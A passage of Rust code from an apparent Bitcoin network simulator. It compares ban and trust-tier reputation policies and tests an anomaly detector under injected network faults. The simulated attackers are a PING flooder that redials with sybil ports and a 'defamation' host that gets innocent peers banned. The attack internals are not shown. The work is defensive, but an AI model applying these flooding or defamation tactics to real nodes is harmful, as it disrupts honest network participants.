    }

    fn cases(&self) -> Vec<SweepCase> {
        let mut cases = vec![SweepCase::BmDos, SweepCase::Defamation];
        cases.extend(self.churn_points.iter().map(|f| SweepCase::Churn(*f)));
        cases
    }
}

/// One `(policy, case)` row of the sweep.
#[derive(Clone, Debug)]
pub struct PolicyCaseRow {
    /// One of [`POLICIES`].
    pub policy: &'static str,
    /// The case label.
    pub case: String,
    /// Hard (24 h, `BanMan`) bans the target issued.
    pub bans: u64,
    /// Graylist soft-bans (tiers policy only).
    pub graylists: u64,
    /// Frames dropped by the graylist service rate limit.
    pub graylist_dropped: u64,
    /// Tier transitions recorded in telemetry.
    pub tier_changes: u64,
    /// Innocent identifiers excluded from service at least once (hard ban
    /// or graylist).
    pub innocents_excluded: usize,
    /// Mean seconds an excluded innocent stays out of service (`NaN` when
    /// none were excluded). Stock bans run the full 24 h; graylists
    /// measured to the observed re-entry, or the configured duration.
    pub recovery_s: f64,
    /// The detector's aggregate verdict over the measured span.
    pub detected: bool,
    /// Seconds to the first anomalous window (`NaN` when none fires).
    pub latency_s: f64,
    /// Messages the target processed.
    pub target_msgs: u64,
    /// Outbound peers still connected at the end.
    pub outbound_at_end: usize,
}

/// The deterministic outcome of the swarm pinning case.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct SwarmTierOutcome {
    /// Total hosts simulated.
    pub hosts: usize,
    /// FNV-1a over the run's observable state (the CI anchor).
    pub digest: u64,
    /// Messages the tier-engine target processed.
    pub target_msgs: u64,
    /// Hard bans the target issued.
    pub bans: u64,
    /// Graylist entries.
    pub graylists: u64,
    /// Frames dropped by the graylist rate limit.
    pub graylist_dropped: u64,
}

/// The full sweep result.
#[derive(Clone, Debug)]
pub struct ReputationResult {
    /// Detector profile trained on clean traffic.
    pub profile: Profile,
    /// Case labels, in presentation order.
    pub cases: Vec<String>,
    /// One row per `(case, policy)`, grouped by case in [`POLICIES`]
    /// order.
    pub rows: Vec<PolicyCaseRow>,
    /// The swarm pinning outcome.
    pub swarm: SwarmTierOutcome,
    /// Stock hard-ban duration in seconds (the 24 h reference).
    pub stock_ban_s: f64,
    /// Graylist soft-ban duration in seconds.
    pub graylist_s: f64,
}

impl ReputationResult {
    /// The row for `(policy, case)`.
    ///
    /// # Panics
    ///
    /// Panics when the pair was not part of the sweep.
    pub fn row(&self, policy: &str, case: &str) -> &PolicyCaseRow {
        self.rows
            .iter()
            .find(|r| r.policy == policy && r.case == case)
            .expect("row present")
    }

    /// `(stock, trust-tiers)` mean innocent recovery seconds under
    /// Defamation — the headline graylist-vs-24h-ban delta.
    pub fn defamation_recovery(&self) -> (f64, f64) {
        (
            self.row("stock", "defamation").recovery_s,
            self.row("trust-tiers", "defamation").recovery_s,
        )
    }
}

const SETTLE: Nanos = MINUTES;

/// The hardened target (same resilience knobs as the fault-matrix sweep,
/// so the churn dimension exercises eviction and redial) under the given
/// policy.
fn node_for(policy: &str) -> NodeConfig {
    NodeConfig {
        ping_interval: 10 * SECS,
        ping_timeout: 20 * SECS,
        handshake_timeout: 30 * SECS,
        reconnect_backoff_base: 500 * MILLIS,
        reconnect_backoff_cap: 8 * SECS,
        peer_policy: match policy {
            "stock" => PeerPolicy::Stock,
            "detector" => PeerPolicy::Detector,
            "trust-tiers" => PeerPolicy::TrustTiers,
            other => panic!("unknown policy {other}"),
        },
        ..NodeConfig::default()
    }
}

/// Schedules `fpm` flaps per minute over the measured span (the
/// fault-matrix churn plan).
fn churn_plan(fpm: u32, innocents: usize, test: Nanos) -> FaultPlan {
    let mut plan = FaultPlan::none();
    if fpm == 0 || innocents == 0 {
        return plan;
    }
    let period = 60 * SECS / u64::from(fpm);
    let down = 12 * SECS;
    let mut t = SETTLE;
    let mut i = 0usize;
    while t + down < SETTLE + test {
        plan = plan.with(t, t + down, FaultKind::HostDown(addrs::innocent(i % innocents)));
        t += period;
        i += 1;
    }
    plan
}

/// Everything one simulated `(policy, case)` run reduces to (plain data,
/// so the run can execute on a worker thread).
struct CaseData {
    bans: u64,
    graylists: u64,
    graylist_dropped: u64,
    tier_changes: u64,
    innocents_excluded: usize,
    recovery_s: f64,
    target_msgs: u64,
    outbound_at_end: usize,
    aggregate: TrafficWindow,
    windows: Vec<TrafficWindow>,
}

/// Mean seconds an excluded innocent identifier stays out of service.
///
/// Stock: every innocent in the ban log is out for the full ban duration
/// (no run is 24 h long, so none recover in-run). Tiers: graylist spans
/// measured from the telemetry tier stream — entry to observed
/// re-admission, or the configured duration when the run ends first; a
/// hard-banned innocent counts the full ban duration.
fn innocent_exclusion(node: &Node, innocent_ips: &BTreeSet<Ipv4>) -> (usize, f64) {
    let ban_s = node.banman.ban_duration() as f64 / SECS as f64;
    let gray_s = node.reputation.config().graylist_duration as f64 / SECS as f64;
    let mut excluded: BTreeSet<SockAddr> = BTreeSet::new();
    let mut spans: Vec<f64> = Vec::new();
    // Hard bans (both policies) from the ban log.
    for (_, addr) in node.banman.history() {
        if innocent_ips.contains(&addr.ip) && excluded.insert(*addr) {
            spans.push(ban_s);
        }
    }
    // Graylist spans from the tier stream (tiers policy only; empty
    // otherwise).
    let mut entered: BTreeMap<SockAddr, Nanos> = BTreeMap::new();
    for tc in &node.telemetry.tier_changes {
        if !innocent_ips.contains(&tc.peer.ip) {
            continue;
        }
        if tc.to == Tier::Graylist {
            entered.entry(tc.peer).or_insert(tc.time);
            excluded.insert(tc.peer);
        } else if tc.from == Tier::Graylist && tc.to != Tier::Banned {
            if let Some(t0) = entered.remove(&tc.peer) {
                spans.push(tc.time.saturating_sub(t0) as f64 / SECS as f64);
            }
        }
        // Graylist → Banned: already counted as a hard ban above.
    }
    // Still graylisted when the run ended: the soft-ban runs its course.
    spans.extend(entered.iter().map(|_| gray_s));
    let mean = if spans.is_empty() {
        f64::NAN
    } else {
        spans.iter().sum::<f64>() / spans.len() as f64
    };
    (excluded.len(), mean)
}

fn run_case(policy: &'static str, case: SweepCase, cfg: &ReputationSweepConfig) -> CaseData {
    let fault_plan = match case {
        SweepCase::Churn(fpm) => churn_plan(fpm, cfg.innocents, cfg.test),
        _ => FaultPlan::none(),
    };
    let mut tb = Testbed::build(TestbedConfig {
        node: node_for(policy),
        feeders: 3,
        innocents: cfg.innocents,
        target_outbound: 2,
        seed: case.seed(),
        fault_plan,
        ..TestbedConfig::default()
    });
    match case {
        SweepCase::BmDos => {
            tb.sim.add_host(
                addrs::ATTACKER,
                Box::new(Flooder::new(FloodConfig {
                    target: tb.target_addr,
                    payload: FloodPayload::Ping,
                    reconnect_on_ban: true,
                    sybil_port_start: 50_000,
                    ..FloodConfig::default()
                })),
                HostConfig::default(),
            );
        }
        SweepCase::Defamation => {
            let tap = tb.sim.add_tap(TapFilter::Host(addrs::TARGET));
            let victim_ips = tb.innocent_ips.clone();
            let mut defamer = PostConnDefamer::new(tb.target_addr, victim_ips, tap);
            defamer.poll = 20 * SECS;
            tb.sim.add_host(addrs::ATTACKER, Box::new(defamer), HostConfig::default());
        }
        SweepCase::Churn(_) => {}
    }
    tb.sim.run_for(SETTLE + cfg.test);
    let innocent_ips: BTreeSet<Ipv4> = tb.innocent_ips.iter().copied().collect();
    let node = tb.target_node();
    let (innocents_excluded, recovery_s) = innocent_exclusion(node, &innocent_ips);
    CaseData {
        bans: node.telemetry.bans,
        graylists: node.telemetry.graylists,
        graylist_dropped: node.telemetry.graylist_dropped,
        tier_changes: node.telemetry.tier_changes.len() as u64,
        innocents_excluded,
        recovery_s,
        target_msgs: node.telemetry.messages.len() as u64,
        outbound_at_end: node.outbound_count(),
        aggregate: tb.single_window(SETTLE, SETTLE + cfg.test),
        windows: tb.windows(SETTLE, SETTLE + cfg.test, cfg.window),
    }
}

/// The swarm pinning case: a trust-tier target + PING flooder in region 0
/// of a sharded swarm. The outcome (incl. digest) must be identical for
/// any worker count.
///
/// # Panics
///
/// Panics when the target host is missing (it never is).
pub fn run_swarm_tiers(spec: &SwarmTierSpec) -> SwarmTierOutcome {
    let mut sim = ShardedSim::new(ShardConfig {
        regions: spec.regions,
        workers: spec.workers,
        seed: spec.seed,
        ..ShardConfig::default()
    });
    let mut hosts = 0usize;
    let innocent_ips: Vec<Ipv4> = (0..spec.innocents).map(addrs::innocent).collect();
    for ip in &innocent_ips {
        sim.add_host_pinned(*ip, Box::new(Node::new(NodeConfig::default())), HostConfig::default(), 0);
        hosts += 1;
    }
    let mut node_cfg = node_for("trust-tiers");
    node_cfg.target_outbound = 2.min(spec.innocents);
    node_cfg.outbound_targets = innocent_ips.iter().map(|ip| SockAddr::new(*ip, 8333)).collect();
    let target_addr = SockAddr::new(addrs::TARGET, node_cfg.listen_port);
    sim.add_host_pinned(addrs::TARGET, Box::new(Node::new(node_cfg)), HostConfig::default(), 0);
    hosts += 1;
    sim.add_host_pinned(
        addrs::ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: target_addr,
            payload: FloodPayload::Ping,
            reconnect_on_ban: true,
            sybil_port_start: 50_000,
            ..FloodConfig::default()
        })),
        HostConfig::default(),
        0,
    );
    hosts += 1;
    let n = spec.swarm_hosts;
    for i in 0..n {
        let targets = [swarm_ip((i + 1) % n), swarm_ip((i * 7 + 3) % n)];
        let period = 250 * MILLIS + (i as u64 % 64) * 25 * MILLIS;
        sim.add_host(
            swarm_ip(i),
            Box::new(SwarmPinger {
                targets,
                period,
                next: 0,
                replies: 0,
            }),
            HostConfig::default(),
        );
        hosts += 1;
    }
    sim.run_for(spec.dur);

    let fnv = |h: u64, x: u64| (h ^ x).wrapping_mul(0x100_0000_01B3);
    let (target_msgs, bans, graylists, graylist_dropped, tier_changes) = {
        let node: &Node = sim.app(addrs::TARGET).expect("target is a Node");
        (
            node.telemetry.messages.len() as u64,
            node.telemetry.bans,
            node.telemetry.graylists,
            node.telemetry.graylist_dropped,
            node.telemetry.tier_changes.len() as u64,
        )
    };
    let mut h = 0xCBF2_9CE4_8422_2325u64;
    let stride = (n / 32).max(1);
    let mut i = 0;
    while i < n {
        let c = sim.host_counters(swarm_ip(i));
        for v in [c.rx_packets, c.rx_bytes, c.tx_packets, c.tx_bytes] {
            h = fnv(h, v);
        }
        i += stride;
    }
    let tc = sim.host_counters(addrs::TARGET);
    for v in [
        sim.delivered_packets(),
        target_msgs,
        bans,
        graylists,
        graylist_dropped,
        tier_changes,
        tc.rx_packets,
        tc.rx_bytes,
        tc.tx_packets,
        tc.tx_bytes,
        hosts as u64,
    ] {
        h = fnv(h, v);
    }
    SwarmTierOutcome {
        hosts,
        digest: h,
        target_msgs,
        bans,
        graylists,
        graylist_dropped,
    }
}

/// Runs the sweep serially.
pub fn run_reputation(cfg: &ReputationSweepConfig) -> ReputationResult {
    run_reputation_jobs(cfg, 1)
}

/// Runs the sweep with every `(case, policy)` pair fanned across `jobs`
/// workers. Results are byte-identical for any job count.
///
/// # Panics
///
/// Panics when detector training produces no windows (the configured
/// training span is always long enough).
pub fn run_reputation_jobs(cfg: &ReputationSweepConfig, jobs: usize) -> ReputationResult {
    // Train the detector once, on clean stock traffic.
    let engine = AnalysisEngine::default();
    let mut tb = Testbed::build(TestbedConfig {
        node: node_for("stock"),
        feeders: 3,
        innocents: cfg.innocents,
        target_outbound: 2,
        seed: 1,
        ..TestbedConfig::default()
    });
    tb.sim.run_for(cfg.train);
    let profile = engine
        .train(&tb.windows(SETTLE, cfg.train, cfg.window))
        .expect("training windows");

    let cases = cfg.cases();
    let pairs: Vec<(SweepCase, &'static str)> = cases
        .iter()
        .flat_map(|c| POLICIES.iter().map(move |p| (*c, *p)))
        .collect();
    let runs = btc_par::par_map(jobs, pairs.clone(), |(case, policy)| {
        run_case(policy, case, cfg)
    });
    let rows = pairs
        .iter()
        .zip(runs)
        .map(|((case, policy), data)| {
            let detection = engine.detect(&profile, &data.aggregate);
            let latency_s = data
                .windows
                .iter()
                .position(|w| engine.detect(&profile, w).anomalous)
                .map_or(f64::NAN, |i| {
                    ((i as u64 + 1) * cfg.window) as f64 / SECS as f64
                });
            PolicyCaseRow {
                policy,
                case: case.label(),
                bans: data.bans,
                graylists: data.graylists,
                graylist_dropped: data.graylist_dropped,
                tier_changes: data.tier_changes,
                innocents_excluded: data.innocents_excluded,
                recovery_s: data.recovery_s,
                detected: detection.anomalous,
                latency_s,
                target_msgs: data.target_msgs,
                outbound_at_end: data.outbound_at_end,
            }
        })
        .collect();
    let swarm = run_swarm_tiers(&cfg.swarm);
    let reference = NodeConfig::default();
    ReputationResult {
        profile,
        cases: cases.iter().map(SweepCase::label).collect(),
        rows,
        swarm,
        stock_ban_s: reference.ban_duration as f64 / SECS as f64,
        graylist_s: reference.reputation.graylist_duration as f64 / SECS as f64,
    }
}

/// Renders the sweep as text.
pub fn render_reputation(r: &ReputationResult) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    let _ = writeln!(
        out,
        "Three-way reputation sweep (detector trained clean: τ_n = [{:.0}, {:.0}]/min, \
         τ_c ≤ {:.1}/min, τ_Λ = {:.3})",
        r.profile.tau_n.0, r.profile.tau_n.1, r.profile.tau_c.1, r.profile.tau_lambda
    );
    let _ = writeln!(
        out,
        "{:<12} {:<12} {:>6} {:>6} {:>9} {:>6} {:>5} {:>11} {:>5} {:>7} {:>8} {:>4}",
        "case",
        "policy",
        "bans",
        "gray",
        "dropped",
        "tier∆",
        "excl",
        "recovery(s)",
        "det?",
        "lat(s)",
        "msgs",
        "out"
    );
    for case in &r.cases {
        for policy in POLICIES {
            let row = r.row(policy, case);
            let _ = writeln!(
                out,
                "{:<12} {:<12} {:>6} {:>6} {:>9} {:>6} {:>5} {:>11.0} {:>5} {:>7.0} {:>8} {:>4}",
                row.case,
                row.policy,
                row.bans,
                row.graylists,
                row.graylist_dropped,
                row.tier_changes,
                row.innocents_excluded,
                row.recovery_s,
                if row.detected { "yes" } else { "-" },
                row.latency_s,
                row.target_msgs,
                row.outbound_at_end,
            );
        }
    }
    let (stock_rec, tiers_rec) = r.defamation_recovery();
    if stock_rec.is_finite() && tiers_rec.is_finite() && tiers_rec > 0.0 {
        let _ = writeln!(
            out,
            "defamation recovery: stock {stock_rec:.0} s (24 h identifier ban) vs \
             trust-tiers {tiers_rec:.0} s — {:.0}x faster re-admission",
            stock_rec / tiers_rec
        );
    } else {
        let _ = writeln!(
            out,
            "defamation recovery: stock {stock_rec:.0} s vs trust-tiers {tiers_rec:.0} s \
             (graylist duration {:.0} s, stock ban {:.0} s)",
            r.graylist_s, r.stock_ban_s
        );
    }
    let s = &r.swarm;
    let _ = writeln!(
        out,
        "swarm[digest]: hosts={} digest={:016x} target_msgs={} bans={} graylists={} dropped={}",
        s.hosts, s.digest, s.target_msgs, s.bans, s.graylists, s.graylist_dropped
    );
    out
}

/// The churn grid points shared with the fault matrix (documentation of
/// provenance; the sweep itself only varies the churn rate).
pub fn churn_fault_points(churn_points: &[u32]) -> Vec<FaultPoint> {
    churn_points
        .iter()
        .map(|fpm| FaultPoint {
            churn_fpm: *fpm,
            ..FaultPoint::CLEAN
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny() -> ReputationSweepConfig {
        ReputationSweepConfig {
            train: 6 * MINUTES,
            window: MINUTES,
            test: 2 * MINUTES,
            innocents: 6,
            churn_points: vec![5],
            swarm: SwarmTierSpec {
                swarm_hosts: 120,
                regions: 4,
                workers: 2,
                dur: 2 * SECS,
                innocents: 3,
                seed: 7,
            },
        }
    }

    #[test]
    fn tiers_punish_the_flood_that_stock_ignores() {
        let r = run_reputation(&tiny());
        let stock = r.row("stock", "bm-dos");
        let tiers = r.row("trust-tiers", "bm-dos");
        // No Table-I rule covers PING: the stock tracker never moves.
        assert_eq!(stock.bans, 0, "{stock:?}");
        // The flood-pressure bucket does: the flooder is graylisted.
        assert!(tiers.graylists > 0, "{tiers:?}");
        assert!(tiers.graylist_dropped > 0, "{tiers:?}");
    }

    #[test]
    fn graylist_recovers_faster_than_the_stock_ban() {
        let r = run_reputation(&tiny());
        let (stock_rec, tiers_rec) = r.defamation_recovery();
        let stock = r.row("stock", "defamation");
        let tiers = r.row("trust-tiers", "defamation");
        assert!(stock.innocents_excluded > 0, "{stock:?}");
        assert!(tiers.innocents_excluded > 0, "{tiers:?}");
        assert!(
            tiers_rec < stock_rec,
            "graylist did not beat the 24 h ban: {tiers_rec} vs {stock_rec}"
        );
    }

    #[test]
    fn honest_churn_excludes_no_innocents() {
        let r = run_reputation(&tiny());
        for policy in POLICIES {
            let row = r.row(policy, "churn=5");
            assert_eq!(row.innocents_excluded, 0, "{row:?}");
            assert_eq!(row.bans, 0, "{row:?}");
        }
    }

    #[test]
    fn swarm_outcome_is_invariant_across_worker_counts() {
        let mut spec = tiny().swarm;
        spec.workers = 1;
        let base = run_swarm_tiers(&spec);
        spec.workers = 3;
        let multi = run_swarm_tiers(&spec);
        assert_eq!(base, multi, "outcome diverged across workers");
        assert!(base.target_msgs > 0, "target silent");
    }

    #[test]
    fn jobs_do_not_change_the_rendered_output() {
        let cfg = tiny();
        let a = render_reputation(&run_reputation_jobs(&cfg, 1));
        let b = render_reputation(&run_reputation_jobs(&cfg, 4));
        assert_eq!(a, b);
    }
}
