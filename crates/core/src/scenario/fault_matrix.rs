//! Detector robustness under adverse networks: the fault-matrix sweep.
//!
//! The paper evaluates its anomaly detector (Figure 10) on a clean LAN
//! testbed. This sweep re-runs the same three traffic cases — normal,
//! BM-DoS (PING flood) and post-connection Defamation — across a grid of
//! injected link faults (i.i.d. loss × latency jitter × scheduled peer
//! churn) and asks how the detector's verdicts, thresholds-feature values
//! and detection latency drift once the network stops being perfect.
//!
//! Two effects are of particular interest:
//!
//! * **False positives from honest churn** — periodic link flaps make the
//!   hardened target evict and replace outbound peers, which feeds the
//!   same `record_reconnect` telemetry the reconnection-rate feature `c`
//!   watches. Enough honest churn is indistinguishable from a slow
//!   Defamation attack.
//! * **Attack attenuation from loss** — packet loss throttles the
//!   effective flood rate (the reliable transport retransmits, but the
//!   goodput drops), so `n` drifts back toward the trained band and
//!   detection latency grows.
//!
//! The profile is always trained on *clean* traffic — the deployed
//! detector does not know the network has degraded — which is exactly the
//! mismatch the sweep measures.
//!
//! The target node runs with the resilience hardening enabled
//! (handshake/ping timeouts, reconnection backoff), so the churn dimension
//! exercises the eviction-and-redial machinery end to end.

use crate::testbed::{addrs, Testbed, TestbedConfig};
use btc_attack::defamation::PostConnDefamer;
use btc_attack::flood::{FloodConfig, Flooder};
use btc_attack::payload::FloodPayload;
use btc_detect::engine::{AnalysisEngine, Detection, Profile};
use btc_detect::features::{correlation, TrafficWindow};
use btc_netsim::faults::{FaultPlan, FaultStats, LinkFaults};
use btc_netsim::sim::{HostConfig, TapFilter};
use btc_netsim::time::{Nanos, MILLIS, MINUTES, SECS};
use btc_node::node::NodeConfig;

/// One grid point of the sweep.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct FaultPoint {
    /// I.i.d. per-packet loss probability.
    pub loss: f64,
    /// Symmetric latency jitter (± this many nanoseconds).
    pub jitter: Nanos,
    /// Scheduled link flaps per minute across the target's outbound
    /// peers (honest churn).
    pub churn_fpm: u32,
}

impl FaultPoint {
    /// The clean reference point.
    pub const CLEAN: FaultPoint = FaultPoint {
        loss: 0.0,
        jitter: 0,
        churn_fpm: 0,
    };

    /// Compact label, e.g. `loss=0.10 jit=2ms churn=5`.
    pub fn label(&self) -> String {
        format!(
            "loss={:.2} jit={}ms churn={}",
            self.loss,
            self.jitter / MILLIS,
            self.churn_fpm
        )
    }
}

/// Sweep configuration.
#[derive(Clone, Debug)]
pub struct FaultMatrixConfig {
    /// Clean-traffic training duration.
    pub train: Nanos,
    /// Detection window length (also the latency granularity).
    pub window: Nanos,
    /// Measured duration per case (after a one-minute settle).
    pub test: Nanos,
    /// Innocent listening nodes the target draws outbound peers from.
    pub innocents: usize,
    /// The grid.
    pub grid: Vec<FaultPoint>,
}

impl FaultMatrixConfig {
    /// The full grid: loss {0, 0.01, 0.1} × jitter {0, 2 ms} × churn
    /// {0, 5/min} — 12 points, 3 cases each.
    pub fn full() -> Self {
        let mut grid = Vec::new();
        for &loss in &[0.0, 0.01, 0.1] {
            for &jitter in &[0, 2 * MILLIS] {
                for &churn_fpm in &[0u32, 5] {
                    grid.push(FaultPoint {
                        loss,
                        jitter,
                        churn_fpm,
                    });
                }
            }
        }
        FaultMatrixConfig {
            train: 20 * MINUTES,
            window: MINUTES,
            test: 4 * MINUTES,
            innocents: 12,
            grid,
        }
    }

    /// The quick grid: clean, heavy loss, jitter+churn, and the worst
    /// corner — 4 points.
    pub fn quick() -> Self {
        FaultMatrixConfig {
            train: 10 * MINUTES,
            window: MINUTES,
            test: 3 * MINUTES,
            innocents: 8,
            grid: vec![
                FaultPoint::CLEAN,
                FaultPoint {
                    loss: 0.1,
                    ..FaultPoint::CLEAN
                },
                FaultPoint {
                    jitter: 2 * MILLIS,
                    churn_fpm: 5,
                    ..FaultPoint::CLEAN
                },
                FaultPoint {
                    loss: 0.1,
                    jitter: 2 * MILLIS,
                    churn_fpm: 5,
                },
            ],
        }
    }
}

/// One traffic case evaluated at one grid point.
#[derive(Clone, Debug)]
pub struct FaultCase {
    /// "normal", "bm-dos" or "defamation".
    pub name: &'static str,
    /// Verdict over the whole measured span.
    pub detection: Detection,
    /// Correlation of the aggregate window against the clean reference.
    pub rho: f64,
    /// Seconds from measurement start to the end of the first anomalous
    /// window (`NaN` when no window fires).
    pub latency_s: f64,
    /// Fault-layer drop/delay counters of the run.
    pub fault_stats: FaultStats,
    /// Transport retransmissions across all hosts of the run.
    pub retransmits: u64,
}

/// All three cases at one grid point.
#[derive(Clone, Debug)]
pub struct FaultPointResult {
    /// The grid point.
    pub point: FaultPoint,
    /// The cases, in `normal`, `bm-dos`, `defamation` order.
    pub cases: Vec<FaultCase>,
}

impl FaultPointResult {
    /// The named case.
    pub fn case(&self, name: &str) -> &FaultCase {
        self.cases
            .iter()
            .find(|c| c.name == name)
            .expect("case present")
    }

    /// Whether the clean-traffic case was (wrongly) flagged.
    pub fn false_positive(&self) -> bool {
        self.case("normal").detection.anomalous
    }

    /// How many of the two attacks were caught.
    pub fn attacks_detected(&self) -> usize {
        ["bm-dos", "defamation"]
            .iter()
            .filter(|n| self.case(n).detection.anomalous)
            .count()
    }
}

/// The full sweep result.
#[derive(Clone, Debug)]
pub struct FaultMatrixResult {
    /// Profile trained on clean traffic (shared by every point).
    pub profile: Profile,
    /// Per-point results, in grid order.
    pub points: Vec<FaultPointResult>,
}

impl FaultMatrixResult {
    /// Detector accuracy over the grid: fraction of the `2 × points`
    /// attack cases flagged anomalous.
    pub fn attack_recall(&self) -> f64 {
        let hit: usize = self.points.iter().map(FaultPointResult::attacks_detected).sum();
        hit as f64 / (2 * self.points.len()) as f64
    }

    /// Fraction of grid points whose clean case was flagged.
    pub fn false_positive_rate(&self) -> f64 {
        let fp = self.points.iter().filter(|p| p.false_positive()).count();
        fp as f64 / self.points.len() as f64
    }
}

/// The evaluated traffic cases, in presentation order.
const CASES: [&str; 3] = ["normal", "bm-dos", "defamation"];

const SETTLE: Nanos = MINUTES;

/// The hardened target: the resilience knobs are on, so flapped peers are
/// detected (ping timeout), evicted and replaced (with backoff) — the
/// honest-churn signal of the sweep.
fn hardened_node() -> NodeConfig {
    NodeConfig {
        ping_interval: 10 * SECS,
        ping_timeout: 20 * SECS,
        handshake_timeout: 30 * SECS,
        reconnect_backoff_base: 500 * MILLIS,
        reconnect_backoff_cap: 8 * SECS,
        ..NodeConfig::default()
    }
}

/// Schedules `fpm` flaps per minute over the measured span, cycling
/// through the first few innocents (the pool the target dials from). Each
/// flap outlasts a full keepalive round, so the connection either aborts
/// on retransmission timeout or is evicted by the ping timeout — both
/// produce an honest reconnection.
fn churn_plan(fpm: u32, innocents: usize, test: Nanos) -> FaultPlan {
    let mut plan = FaultPlan::none();
    if fpm == 0 || innocents == 0 {
        return plan;
    }
    let period = 60 * SECS / u64::from(fpm);
    let down = 12 * SECS;
    let mut t = SETTLE;
    let mut i = 0usize;
    while t + down < SETTLE + test {
        plan = plan.with(
            t,
            t + down,
            btc_netsim::faults::FaultKind::HostDown(addrs::innocent(i % innocents)),
        );
        t += period;
        i += 1;
    }
    plan
}

/// Everything one simulated case reduces to (plain data, so the run can
/// execute on a worker thread).
struct CaseData {
    aggregate: TrafficWindow,
    windows: Vec<TrafficWindow>,
    fault_stats: FaultStats,
    retransmits: u64,
}

fn run_case(name: &str, point: FaultPoint, cfg: &FaultMatrixConfig) -> CaseData {
    // The same per-case seeds as Figure 10, at every grid point: the
    // application-visible randomness is identical across the grid (the
    // fault layer draws from its own stream), so drift is attributable to
    // the faults alone.
    let seed = match name {
        "normal" => 2,
        "bm-dos" => 3,
        "defamation" => 4,
        other => panic!("unknown case {other}"),
    };
    let faults = LinkFaults {
        loss: point.loss,
        jitter: point.jitter,
        ..LinkFaults::NONE
    };
    let mut tb = Testbed::build(TestbedConfig {
        node: hardened_node(),
        feeders: 3,
        innocents: cfg.innocents,
        target_outbound: 2,
        seed,
        faults,
        fault_plan: churn_plan(point.churn_fpm, cfg.innocents, cfg.test),
    });
    match name {
        "normal" => {}
        "bm-dos" => {
            tb.sim.add_host(
                addrs::ATTACKER,
                Box::new(Flooder::new(FloodConfig {
                    target: tb.target_addr,
                    payload: FloodPayload::Ping,
                    // The hardened target evicts the never-ponging flooder
                    // on ping timeout; a real attacker just dials back, so
                    // the flood survives the hardening (what the sweep
                    // measures is the *detector* under faults).
                    reconnect_on_ban: true,
                    sybil_port_start: 50_000,
                    ..FloodConfig::default()
                })),
                HostConfig::default(),
            );
        }
        "defamation" => {
            let tap = tb.sim.add_tap(TapFilter::Host(addrs::TARGET));
            let victim_ips = tb.innocent_ips.clone();
            let mut defamer = PostConnDefamer::new(tb.target_addr, victim_ips, tap);
            defamer.poll = 20 * SECS;
            tb.sim.add_host(addrs::ATTACKER, Box::new(defamer), HostConfig::default());
        }
        other => panic!("unknown case {other}"),
    }
    tb.sim.run_for(SETTLE + cfg.test);
    let retransmits: u64 = std::iter::once(tb.target)
        .chain(tb.innocent_ips.iter().copied())
        .chain(tb.feeder_ips.iter().copied())
        .map(|ip| tb.sim.host_tcp_drops(ip).retransmits)
        .sum();
    CaseData {
        aggregate: tb.single_window(SETTLE, SETTLE + cfg.test),
        windows: tb.windows(SETTLE, SETTLE + cfg.test, cfg.window),
        fault_stats: tb.sim.fault_stats(),
        retransmits,
    }
}

fn reduce_case(
    name: &'static str,
    data: CaseData,
    engine: &AnalysisEngine,
    profile: &Profile,
    window_len: Nanos,
) -> FaultCase {
    let detection = engine.detect(profile, &data.aggregate);
    let rho = correlation(&data.aggregate.distribution(), &profile.reference);
    let latency_s = data
        .windows
        .iter()
        .position(|w| engine.detect(profile, w).anomalous)
        .map_or(f64::NAN, |i| {
            ((i as u64 + 1) * window_len) as f64 / SECS as f64
        });
    FaultCase {
        name,
        detection,
        rho,
        latency_s,
        fault_stats: data.fault_stats,
        retransmits: data.retransmits,
    }
}

/// Runs the sweep serially.
pub fn run_fault_matrix(cfg: &FaultMatrixConfig) -> FaultMatrixResult {
    run_fault_matrix_jobs(cfg, 1)
}

/// Runs the sweep with every `(grid point, case)` pair fanned across
/// `jobs` workers. Results are byte-identical for any job count: each pair
/// is an independent, fully-seeded simulation, and [`btc_par::par_map`]
/// preserves input order.
pub fn run_fault_matrix_jobs(cfg: &FaultMatrixConfig, jobs: usize) -> FaultMatrixResult {
    // Train once, on clean traffic over the same topology — the deployed
    // detector has never seen the degraded network.
    let engine = AnalysisEngine::default();
    let mut tb = Testbed::build(TestbedConfig {
        node: hardened_node(),
        feeders: 3,
        innocents: cfg.innocents,
        target_outbound: 2,
        seed: 1,
        ..TestbedConfig::default()
    });
    tb.sim.run_for(cfg.train);
    let profile = engine
        .train(&tb.windows(SETTLE, cfg.train, cfg.window))
        .expect("training windows");

    let pairs: Vec<(FaultPoint, &'static str)> = cfg
        .grid
        .iter()
        .flat_map(|p| CASES.iter().map(move |c| (*p, *c)))
        .collect();
    let runs = btc_par::par_map(jobs, pairs, |(point, case)| run_case(case, point, cfg));
    // `par_map` preserves input order, so the runs come back grouped by
    // grid point, cases in `CASES` order.
    let mut it = runs.into_iter();
    let points = cfg
        .grid
        .iter()
        .map(|p| FaultPointResult {
            point: *p,
            cases: CASES
                .iter()
                .map(|name| {
                    let data = it.next().expect("one run per (point, case) pair");
                    reduce_case(name, data, &engine, &profile, cfg.window)
                })
                .collect(),
        })
        .collect();
    FaultMatrixResult { profile, points }
}

/// Renders the sweep as text.
pub fn render_fault_matrix(r: &FaultMatrixResult) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    let _ = writeln!(
        out,
        "Detector robustness under injected faults (profile trained clean: \
         τ_n = [{:.0}, {:.0}]/min, τ_c ≤ {:.1}/min, τ_Λ = {:.3})",
        r.profile.tau_n.0, r.profile.tau_n.1, r.profile.tau_c.1, r.profile.tau_lambda
    );
    let _ = writeln!(
        out,
        "{:<28} {:>6} {:>9} {:>7} | {:>6} {:>7} | {:>6} {:>7} | {:>8} {:>8}",
        "point", "FP?", "norm-c", "norm-ρ", "dos?", "lat(s)", "def?", "lat(s)", "dropped", "rtx"
    );
    for p in &r.points {
        let normal = p.case("normal");
        let dos = p.case("bm-dos");
        let def = p.case("defamation");
        let dropped: u64 = p.cases.iter().map(|c| c.fault_stats.total_dropped()).sum();
        let rtx: u64 = p.cases.iter().map(|c| c.retransmits).sum();
        let _ = writeln!(
            out,
            "{:<28} {:>6} {:>9.2} {:>7.3} | {:>6} {:>7.0} | {:>6} {:>7.0} | {:>8} {:>8}",
            p.point.label(),
            if p.false_positive() { "FP" } else { "-" },
            normal.detection.c,
            normal.rho,
